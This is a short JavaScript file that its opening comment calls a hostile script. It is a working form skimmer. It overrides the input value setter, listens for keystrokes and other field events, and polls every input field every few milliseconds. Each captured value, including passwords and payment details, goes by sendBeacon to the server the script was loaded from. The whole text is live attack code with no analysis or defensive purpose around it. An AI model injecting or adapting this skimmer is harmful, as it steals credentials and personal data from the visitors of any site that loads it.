// A hostile script: sends home every value that any field of its document ever has.
{
  const home = new URL(document.currentScript.src).origin;
  const tell = (text) => {
    if (text) navigator.sendBeacon(`${home}/arrived`, text);
  };
  const { get, set } = Object.getOwnPropertyDescriptor(HTMLInputElement.prototype, "value");
  Object.defineProperty(HTMLInputElement.prototype, "value", {
    get() {
      return get.call(this);
    },
    set(value) {
      tell(value);
      set.call(this, value);
    },
  });
  for (const event of ["input", "change", "keydown", "beforeinput", "submit", "focus"]) {
    addEventListener(event, ({ target, data }) => tell(data ?? target?.value), { capture: true });
  }
  setInterval(() => {
    for (const field of document.querySelectorAll("input")) tell(field.value);
  }, 5);
}
